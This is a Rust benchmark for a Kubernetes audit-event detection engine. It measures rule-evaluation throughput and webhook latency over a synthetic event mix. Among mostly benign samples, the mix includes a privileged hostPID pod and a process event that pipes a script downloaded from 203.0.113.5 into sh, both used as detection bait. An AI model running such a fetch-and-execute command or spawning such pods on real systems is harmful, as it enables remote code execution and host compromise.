//! Detection throughput and webhook latency (not a test; run with
//! `cargo bench -p keelwatch-detect --bench throughput`).
//!
//! 1. events/s on one core through decode (JSON lines) + the whole built-in catalog, on a
//!    realistic mix (mostly control-plane chatter, some workload changes, a few attacks);
//! 2. the same with events pre-decoded (rule evaluation only);
//! 3. p50/p99 latency of `POST /audit` (EventList of 50 events) over TLS on 127.0.0.1 with
//!    4 concurrent clients: alerts are produced before the response is sent, so this bounds
//!    "webhook POST to alert emitted".

#[path = "../tests/common/mod.rs"]
mod common;

use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::*;
use keelwatch_detect::decode::{Event, read_stream};
use keelwatch_detect::rules::load_rules;
use keelwatch_detect::server::{ServerConfig, TlsSource, serve};
use keelwatch_detect::{Aggregator, Detector};
use serde_json::{Value, json};

/// The 1-minute load average, printed next to the figures: on a shared machine wall-clock
/// rates are a lower bound of the per-core rate.
fn load_average() -> String {
    std::fs::read_to_string("/proc/loadavg").unwrap_or_default().split_whitespace().next().unwrap_or("?").to_string()
}

fn mix() -> Vec<Value> {
    let mut v = Vec::new();
    let node = "aks-nodepool1-12345678-vmss000000";
    let kubelet = format!("system:node:{node}");
    v.push(
        audit("update", "leases", Some("kube-node-lease"), Some(node))
            .user(&kubelet)
            .ua("kubelet/v1.29.2")
            .metadata_level()
            .v(),
    );
    v.push(audit("patch", "nodes", None, Some(node)).sub("status", "?timeout=10s").user(&kubelet).metadata_level().v());
    v.push(audit("get", "configmaps", Some("kube-system"), Some("kube-proxy")).user(&kubelet).metadata_level().v());
    v.push(audit("watch", "pods", None, None).user(&kubelet).metadata_level().v());
    v.push(audit("list", "pods", Some("shop"), None).metadata_level().v());
    v.push(
        audit("update", "leases", Some("kube-system"), Some("kube-controller-manager"))
            .user("system:kube-controller-manager")
            .metadata_level()
            .v(),
    );
    v.push(audit("create", "events", Some("shop"), None).user(&kubelet).metadata_level().v());
    v.push(audit("get", "pods", Some("shop"), Some("web-1")).sub("log", "?container=web").metadata_level().v());
    v.push(
        audit("create", "pods", Some("shop"), Some("web-1"))
            .user("system:serviceaccount:kube-system:replicaset-controller")
            .req(pod("web-1", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
            .v(),
    );
    v.push(
        audit("create", "deployments", Some("shop"), Some("web"))
            .user("system:serviceaccount:ci:deployer")
            .req(deployment("web", "shop", &[("web", "contoso.azurecr.io/web:1.4.2", false)], json!({})))
            .v(),
    );
    v.push(
        audit("create", "configmaps", Some("shop"), Some("web"))
            .req(json!({"kind": "ConfigMap", "data": {"LOG_LEVEL": "info"}}))
            .v(),
    );
    v.push(
        audit("create", "pods", Some("default"), Some("x"))
            .req(pod("x", "default", &[("c", "alpine", true)], json!({"hostPID": true})))
            .v(),
    );
    v.push(audit("list", "pods", Some("asc-alerttest-662jfi039n"), None).metadata_level().v());
    v.push(process(&["sh", "-c", "ls -la /app"], "/bin/sh"));
    v.push(process(&["curl", "-fsS", "https://api.contoso.com/health"], "/usr/bin/curl"));
    v.push(process(&["sh", "-c", "curl -fsSL http://203.0.113.5/x.sh | sh"], "/bin/sh"));
    v
}

/// `n` JSON lines cycling through the mix with unique auditIDs.
fn lines(n: usize) -> String {
    let base = mix();
    let mut out = String::with_capacity(n * 900);
    for i in 0..n {
        let mut e = base[i % base.len()].clone();
        if e.get("auditID").is_some() {
            e["auditID"] = json!(format!("bench-{i}"));
        }
        out.push_str(&e.to_string());
        out.push('\n');
    }
    out
}

fn main() {
    let rules = std::sync::Arc::new(load_rules(true, &[]).unwrap());
    let n = 100_000;
    let text = lines(n);
    println!("input: {n} events, {:.1} MiB, average {} bytes/event", text.len() as f64 / 1048576.0, text.len() / n);

    for round in 0..2 {
        let mut det = Detector::new(rules.clone(), "bench");
        let mut alerts = 0usize;
        let t = Instant::now();
        let stats = read_stream("bench", text.as_bytes(), |e| alerts += det.process(&e).len(), |_| {}).unwrap();
        let dt = t.elapsed();
        let events = stats.audit_events + stats.process_events;
        println!(
            "[{round}] decode + catalog: {events} events in {dt:.2?} = {:.0} events/s on one thread ({alerts} alerts, load {})",
            events as f64 / dt.as_secs_f64(),
            load_average()
        );
    }
    let mut decoded: Vec<Event> = Vec::with_capacity(n);
    read_stream("bench", text.as_bytes(), |e| decoded.push(e), |_| {}).unwrap();
    let mut det = Detector::new(rules.clone(), "bench");
    let t = Instant::now();
    let mut alerts = 0usize;
    for e in &decoded {
        alerts += det.process(e).len();
    }
    let dt = t.elapsed();
    println!(
        "catalog only (pre-decoded): {:.0} events/s on one thread ({alerts} alerts, load {})",
        decoded.len() as f64 / dt.as_secs_f64(),
        load_average()
    );

    latency(rules);
}

fn latency(rules: std::sync::Arc<keelwatch_detect::rules::RuleSet>) {
    let dir = tempfile::tempdir().unwrap();
    let config = ServerConfig {
        listen: "127.0.0.1:0".parse().unwrap(),
        tls: TlsSource::SelfSigned { dir: dir.path().join("tls"), names: vec![] },
        token: Some("t".into()),
        client_ca: None,
        body_limit: 16 << 20,
        alerts_out: Some(dir.path().join("alerts.jsonl")),
        webhook: None,
    };
    let (ready_tx, ready_rx) = mpsc::channel();
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let server = std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_multi_thread().worker_threads(2).enable_all().build().unwrap();
        rt.block_on(serve(
            config,
            Detector::new(rules, "bench"),
            Aggregator::new(chrono::Duration::seconds(300), true),
            move |a| {
                let _ = ready_tx.send(a);
            },
            async move {
                let _ = stop_rx.await;
            },
        ))
        .unwrap();
    });
    let addr = ready_rx.recv().unwrap();
    let ca = reqwest::Certificate::from_pem(&std::fs::read(dir.path().join("tls/tls.crt")).unwrap()).unwrap();
    let base = mix();
    let clients = 4;
    let per_client = 250;
    let batch = 50;
    let mut handles = Vec::new();
    for c in 0..clients {
        let ca = ca.clone();
        let base = base.clone();
        handles.push(std::thread::spawn(move || {
            let client = reqwest::blocking::Client::builder()
                .add_root_certificate(ca)
                .timeout(Duration::from_secs(30))
                .build()
                .unwrap();
            let url = format!("https://localhost:{}/audit", addr.port());
            let mut lat = Vec::with_capacity(per_client);
            for r in 0..per_client {
                let items: Vec<Value> = (0..batch)
                    .map(|i| {
                        let mut e = base[(r * batch + i) % base.len()].clone();
                        e["auditID"] = json!(format!("lat-{c}-{r}-{i}"));
                        e
                    })
                    .filter(|e| e.get("pid").is_none())
                    .collect();
                let body = json!({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": items}).to_string();
                let t = Instant::now();
                let resp = client.post(&url).bearer_auth("t").body(body).send().unwrap();
                assert!(resp.status().is_success());
                let _ = resp.bytes();
                lat.push(t.elapsed());
            }
            lat
        }));
    }
    let mut all: Vec<Duration> = handles.into_iter().flat_map(|h| h.join().unwrap()).collect();
    all.sort();
    let pct = |p: f64| all[((all.len() as f64 * p) as usize).min(all.len() - 1)];
    println!(
        "POST /audit ({clients} clients, EventList of ~{batch}): n={} p50={:.2?} p99={:.2?} max={:.2?}",
        all.len(),
        pct(0.50),
        pct(0.99),
        all[all.len() - 1]
    );
    let _ = stop_tx.send(());
    server.join().unwrap();
}
